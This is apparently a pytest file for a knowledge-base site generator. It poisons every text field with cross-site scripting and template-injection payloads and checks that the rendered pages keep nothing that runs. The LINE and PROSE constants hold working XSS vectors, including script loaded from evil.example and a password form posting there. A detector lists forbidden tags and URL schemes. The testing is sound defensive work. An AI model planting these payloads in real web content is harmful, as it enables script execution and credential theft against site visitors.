"""A knowledge base whose every text is an attack: no page that is made from it holds anything that runs."""

import dataclasses
import html
import re
from collections.abc import Iterator, Mapping
from datetime import date
from pathlib import Path
from typing import Any, Union, get_args, get_origin, get_type_hints
from urllib.parse import urlsplit

import pytest

from kb_tools.library import load_library
from kb_tools.model.base import Address, Entry, Line, Prose
from kb_tools.model.document import Page as WrittenPage
from kb_tools.model.library import Library, assemble
from kb_tools.model.page import Settings
from kb_tools.model.provenance import History
from kb_tools.views import all_pages
from kb_tools.views.site import Site, pages_by_address
from tests.unit.views.rendered import Rendered, read

BASE = Path(__file__).parents[2] / "examples/base"
TODAY = date(2026, 11, 22)

LINE = (
    "\"onmouseover=\"alert(1)\" 'onfocus='alert(1)' autofocus x=` &#60;script&#62;alert(1)&lt;/script&gt;"
    " &lt;img src=x onerror=alert(1)&gt; [x](javascript:alert(1)) {{ 7 * 191 }} {% raw %} --&#62; ]] 050-1234567"
)
PROSE = """<script>alert(1)</script><SCRIPT SRC=//evil.example/x.js></SCRIPT>"><svg onload=alert(1)><script>alert(1)</script>

<img src=x onerror=alert(1)> <a href="javascript:alert(1)">x</a> <a href=" java&#10;script:alert(1)">x</a>

[x](javascript:alert(1)) [x](JaVaScRiPt:alert(1)) [x](data:text/html,<script>alert(1)</script>) <javascript:alert(1)>

![x](javascript:alert(1) "onerror=alert(1)") ![x" onerror="alert(1)](x.png)

# heading {: onclick="alert(1)" style="position:fixed" id="__search" }

paragraph {: onmouseover=alert(1) }

<iframe src="javascript:alert(1)"></iframe><form action="//evil.example"><input name=password><button formaction=//evil.example>
<style>body{display:none}</style><base href="//evil.example"><meta http-equiv=refresh content="0;url=//evil.example">
<object data=x></object><embed src=x><math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>

[@first-source: "><script>alert(1)</script><img src=x onerror=alert(1)>] {{ 7 * 191 }}

<div><span>"""
ADDRESS = "https://x.example/'onmouseover='alert(1)/&quot;onclick=alert(1)/`"

FORBIDDEN = frozenset({"script", "style", "iframe", "object", "embed", "base", "meta", "link", "math", "template"})
SCHEMES = frozenset({"", "http", "https", "mailto", "tel"})
OWN_STYLE = re.compile(r"((--[a-z-]+|inline-size):\s*[\d.]+%?;?\s*)+|text-align:\s*\w+;?")


@pytest.fixture(scope="module")
def library() -> Library:
    loaded = load_library(BASE, TODAY)
    assert loaded.library is not None, loaded.problems
    calm = loaded.library
    documents = [dataclasses.replace(each, content=poisoned(each.content)) for each in calm.documents]
    # Elsewhere than at the root: a written home page would stand in place of the generated one.
    pages = [WrittenPage(f"guide/{page.path}", poisoned(page.meta), PROSE) for page in calm.pages]
    settings = poisoned(calm.settings)
    assert isinstance(settings, Settings)
    return assemble(settings, documents, pages, dict.fromkeys(calm.prose, PROSE))


@pytest.fixture(scope="module")
def rendered(library: Library) -> Mapping[str, Rendered]:
    pages = pages_by_address(all_pages.pages(Site(library, History(), TODAY)))
    return {at: read(page.render()) for at, page in pages.items()}


def poisoned(entry: Any) -> Any:
    """The same entry with every line, every prose and every web address replaced, also where there was none."""
    hints = get_type_hints(type(entry), include_extras=True)
    values = {name: _poison(hints[name], getattr(entry, name)) for name in type(entry).model_fields}
    return entry.model_copy(update=values)


def _poison(hint: Any, value: Any) -> Any:
    wishes = get_args(hint) if get_origin(hint) is Union or "UnionType" in type(hint).__name__ else (hint,)
    for kind, payload in ((Line, LINE), (Prose, PROSE), (Address, ADDRESS)):
        if kind in wishes:
            return payload
        if tuple[kind, ...] in wishes:
            return (payload, payload)
    if isinstance(value, Entry):
        return poisoned(value)
    if isinstance(value, tuple):
        return tuple(poisoned(item) if isinstance(item, Entry) else item for item in value)
    if isinstance(value, dict):
        return {key: _poison(None, item) for key, item in value.items()}
    return value


def test_the_attack_is_valid_content(library: Library) -> None:
    """Otherwise the loader, and not the pages, would be what is tested."""
    for document in library.documents:
        again = type(document.content).model_validate(document.content.model_dump(mode="json", exclude_none=True))
        assert again == document.content, document.path


def test_every_kind_of_page_is_attacked(rendered: Mapping[str, Rendered]) -> None:
    """The payload's words arrive, as words, on each page that shows any content."""
    sections = {at.split("/")[0] for at, page in rendered.items() if "alert(1)" in page.text}
    things = {"playbooks", "drills", "scenarios", "municipalities", "districts"}
    assert sections >= {"", "lessons", "roles", "calls", "sources", "vocabulary", *things}


def test_nothing_runs(rendered: Mapping[str, Rendered]) -> None:
    assert not [f"{at}: {found}" for at, page in rendered.items() for found in vectors(page)][:10]


def test_templates_are_not_evaluated_twice(rendered: Mapping[str, Rendered]) -> None:
    assert not [at for at, page in rendered.items() if "1337" in page.text]


def test_the_theme_keeps_its_own_elements(rendered: Mapping[str, Rendered]) -> None:
    """An author's element with an id of the theme's would be found in its place."""
    assert not [at for at, page in rendered.items() if any(id_.startswith("__") for id_ in page.ids)]


def test_an_attack_closes_no_tag_of_ours(rendered: Mapping[str, Rendered]) -> None:
    assert not {at: (page.unclosed, page.misnested) for at, page in rendered.items() if page.unclosed or page.misnested}


@pytest.mark.parametrize(
    "attack",
    [
        "<script>x</script>",
        "<p onclick='x'>",
        "<a href='javascript:x'>",
        "<a href='&#106;avascript:x'>",
        "<a href=' java\nscript:x'>",
        "<p style='position:fixed'>",
        "<form action='//evil.example'>",
        "<input formaction='//evil.example'>",
    ],
)
def test_the_detector_sees(attack: str) -> None:
    assert list(vectors(read(attack)))


def vectors(page: Rendered) -> Iterator[str]:
    """What in a page would run, or reach out of it."""
    for tag, attributes in page.tags:
        if tag in FORBIDDEN:
            yield f"<{tag}>"
        for name, value in attributes.items():
            if name.startswith("on") or name in ("srcdoc", "action", "formaction"):
                yield f"<{tag} {name}={value}>"
            if name == "style" and not OWN_STYLE.fullmatch(value):
                yield f"<{tag} style={value}>"
    for link in page.addresses:
        plain = re.sub(r"[\x00-\x20]", "", html.unescape(link))
        if urlsplit(plain).scheme.lower() not in SCHEMES:
            yield link
